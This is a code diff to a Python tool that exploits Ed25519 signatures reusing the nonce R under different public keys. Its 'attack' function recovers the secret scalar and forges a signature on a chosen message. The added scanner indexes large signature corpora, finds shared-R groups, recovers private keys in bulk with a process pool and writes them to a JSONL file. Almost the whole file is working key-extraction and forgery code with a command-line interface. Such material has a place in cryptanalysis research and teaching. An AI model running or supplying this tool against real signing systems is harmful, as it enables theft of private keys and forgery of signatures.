@@ -1,6 +1,14 @@
-from Utils import Ed25519, EdDSA, Helper
+from typing import Iterator, List, Tuple
+from Utils import Ed25519, Helper
+import sqlite3
+import struct
+import json
+import sys
 import os
 
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+from RecordIndex import file_format, scan_records, create_index, open_index, map_groups
+
 def attack(signature1: bytes, vk1: bytes, signature2: bytes, vk2: bytes, original_message: bytes, target_message: bytes, target_vk: bytes) -> bytes:
     """ Recover the private key from two signatures (of the same message) if they use the same
         secret key but different public keys.
@@ -21,22 +29,149 @@ def attack(signature1: bytes, vk1: bytes, signature2: bytes, vk2: bytes, origina
     assert len(signature1) == len(signature2) == 64
     assert signature1[:32] == signature2[:32]
 
-    R  = Helper.DecodePoint(signature1[:32])
+    sk_clamped_scalar = recover_scalar(signature1, vk1, original_message, signature2, vk2, original_message)
+    r = int.from_bytes(os.urandom(32), 'little') # don't care
+    R = Ed25519.base_mult(r)
+    R_bytes = Helper.EncodePoint(*R)
+    S = r + int.from_bytes(
+        Helper.HASH(R_bytes + target_vk + target_message), 'little'
+    ) * sk_clamped_scalar
+    
+    return R_bytes + (S % Ed25519.q).to_bytes(32, 'little')
+
+def recover_scalar(signature1: bytes, vk1: bytes, message1: bytes, signature2: bytes, vk2: bytes, message2: bytes) -> int:
+    """ The clamped secret scalar a (mod q) of two signatures with the same R (so the same r):
+            S1 - S2 = (e1 - e2) * a mod q
+    """
+    assert signature1[:32] == signature2[:32]
     e1 = int.from_bytes(
-        Helper.HASH(signature1[:32] + vk1 + original_message), 'little' 
+        Helper.HASH(signature1[:32] + vk1 + message1), 'little'
     )
     e2 = int.from_bytes(
-        Helper.HASH(signature2[:32] + vk2 + original_message), 'little' 
+        Helper.HASH(signature2[:32] + vk2 + message2), 'little'
     )
     s1 = int.from_bytes(signature1[32:], 'little')
     s2 = int.from_bytes(signature2[32:], 'little')
+    return (s1 - s2) * pow(e1 - e2, -1, Ed25519.q) % Ed25519.q
 
-    sk_clamped_scalar = (s1 - s2) * pow(e1 - e2, -1, Ed25519.q) % Ed25519.q
-    r = int.from_bytes(os.urandom(32), 'little') # don't care
-    R = Ed25519.mult(Ed25519.BASE, r)
-    R_bytes = Helper.EncodePoint(*R)
-    S = r + int.from_bytes(
-        Helper.HASH(R_bytes + target_vk + target_message), 'little'
-    ) * sk_clamped_scalar
-    
-    return R_bytes + (S % Ed25519.q).to_bytes(32, 'little')
\ No newline at end of file
+# ===== Shared-R scanner =====
+# Find the signatures sharing R under different public keys in a (very large) corpus, and recover the keys.
+#   1. one pass over the corpus: (R, vk, offset) of every record goes into an on-disk SQLite index,
+#      R and vk are stored as their first 8 bytes (signed int64) to keep the index small
+#   2. every R with 2 public keys or more is read back by offset (one record per key) and sent to a process pool
+#   3. the full R and vk are compared again, the recovered scalar (mod q) is checked against the public keys
+#      (a * B == A) and the results are appended to a JSONL file as soon as they are found
+# (the two passes are the ones of RecordIndex)
+# Corpus formats:
+#   - JSONL: {"message": hex, "vk": hex, "signature": hex}
+#   - binary: records of RECORD_HEADER = vk (32 bytes), signature (64 bytes), little endian u32 length of
+#             the message, followed by the message
+
+RECORD_HEADER = struct.Struct("<32s64sI")
+
+RECORD = Tuple[bytes,bytes,bytes] # message, vk, signature
+
+def _prefix(b: bytes) -> int:
+    return int.from_bytes(b[:8], 'little', signed=True)
+
+def _parse_json(line: bytes) -> RECORD:
+    rec = json.loads(line)
+    return bytes.fromhex(rec["message"]), bytes.fromhex(rec["vk"]), bytes.fromhex(rec["signature"])
+
+def _scan_corpus(path: str) -> Iterator[Tuple[int,int,int]]:
+    # (R prefix, vk prefix, offset) of every record, the messages of the binary format are skipped
+    def from_json(line):
+        _, vk, signature = _parse_json(line)
+        return _prefix(signature), _prefix(vk)
+
+    def from_binary(fp, header):
+        vk, signature, length = header
+        fp.seek(length, os.SEEK_CUR)
+        return _prefix(signature), _prefix(vk)
+
+    return scan_records(path, RECORD_HEADER, from_json, from_binary)
+
+def read_record(fp, offset: int, fmt: str) -> RECORD:
+    """ The record at `offset` of an opened corpus """
+    fp.seek(offset)
+    if fmt == "jsonl":
+        return _parse_json(fp.readline())
+    vk, signature, length = RECORD_HEADER.unpack(fp.read(RECORD_HEADER.size))
+    return fp.read(length), vk, signature
+
+def write_binary_record(fp, message: bytes, vk: bytes, signature: bytes):
+    fp.write(RECORD_HEADER.pack(vk, signature, len(message)) + message)
+
+def build_index(corpus: str, index_path: str, batch_size: int=100000, overwrite: bool=False) -> sqlite3.Connection:
+    """ Single pass over the corpus, only (R, vk, offset) of the records are stored (on disk)
+    :param overwrite: Replace `index_path` if it already exists (FileExistsError otherwise)
+    """
+    return create_index(_scan_corpus(corpus), index_path, "r INTEGER, vk INTEGER, offset INTEGER", "r, vk",
+                        overwrite, batch_size)
+
+def shared_r(db: sqlite3.Connection) -> Iterator[Tuple[int,int]]:
+    """ (R prefix, number of public keys) of every R used under 2 public keys or more """
+    yield from db.execute("SELECT r, COUNT(DISTINCT vk) FROM records GROUP BY r HAVING COUNT(DISTINCT vk) > 1")
+
+def r_group(db: sqlite3.Connection, fp, r: int, fmt: str, max_keys: int=16) -> List[RECORD]:
+    """ One record per public key (at most `max_keys`) of the signatures whose R starts with `r` """
+    offsets = db.execute("SELECT MIN(offset) FROM records WHERE r = ? GROUP BY vk LIMIT ?", (r, max_keys)).fetchall()
+    return [read_record(fp, offset, fmt) for offset, in offsets]
+
+def recover_group(records: List[RECORD]) -> List[dict]:
+    """ Keys recovered from the records of one R prefix, as JSON-able dicts (one per full R) """
+    groups = {}
+    for message, vk, signature in records:
+        groups.setdefault(signature[:32], {}).setdefault(vk, (message, signature))
+
+    results = []
+    for R, per_key in groups.items():
+        if len(per_key) < 2:
+            continue
+        (vk1, (m1, sig1)), *others = per_key.items()
+        scalars = {recover_scalar(sig1, vk1, m1, sig2, vk2, m2) for vk2, (m2, sig2) in others}
+        keys = {}
+        for a in scalars:
+            A = Helper.EncodePoint(*Ed25519.base_mult(a))
+            if A in per_key:
+                keys[A.hex()] = f"{a:064x}"
+        results.append({"R": R.hex(), "vks": len(per_key), "keys": sorted(keys.items())})
+    return results
+
+def scan(corpus: str, output: str, index_path: str=None, processes: int=None, max_keys: int=16, window: int=1024,
+         overwrite: bool=False) -> int:
+    """ Find every R shared by signatures under different public keys and recover the clamped scalars
+        (see the top of this section)
+
+    :param corpus: Path of the JSONL (.jsonl) or binary corpus
+    :param output: JSONL file where one result per shared R is appended
+    :param index_path: Where to keep the index (default: a temporary file, deleted at the end)
+    :param processes: Number of workers (default: cpu count)
+    :param max_keys: Number of public keys read per R
+    :param window: Number of groups read and sent to the pool at once (bounds the memory)
+    :param overwrite: Replace `index_path` if it already exists
+    :return: Number of shared R
+    """
+    fmt   = file_format(corpus)
+    build = lambda path: build_index(corpus, path, overwrite=overwrite)
+
+    count = 0
+    with open_index(build, index_path) as db, open(corpus, "rb") as fp, open(output, "a") as out:
+        groups = (r_group(db, fp, r, fmt, max_keys) for r, _ in shared_r(db))
+        for results in map_groups(recover_group, groups, processes, window):
+            for res in results:
+                out.write(json.dumps(res) + "\n")
+                count += 1
+            out.flush()
+    return count
+
+if __name__ == "__main__":
+    import argparse
+    parser = argparse.ArgumentParser(description="Recover the Ed25519 keys of the signatures sharing R under different public keys")
+    parser.add_argument("corpus")
+    parser.add_argument("output")
+    parser.add_argument("--index")
+    parser.add_argument("--processes", type=int)
+    parser.add_argument("--overwrite", action="store_true", help="replace the index if it already exists")
+    args = parser.parse_args()
+    print(scan(args.corpus, args.output, args.index, args.processes, overwrite=args.overwrite), "shared R")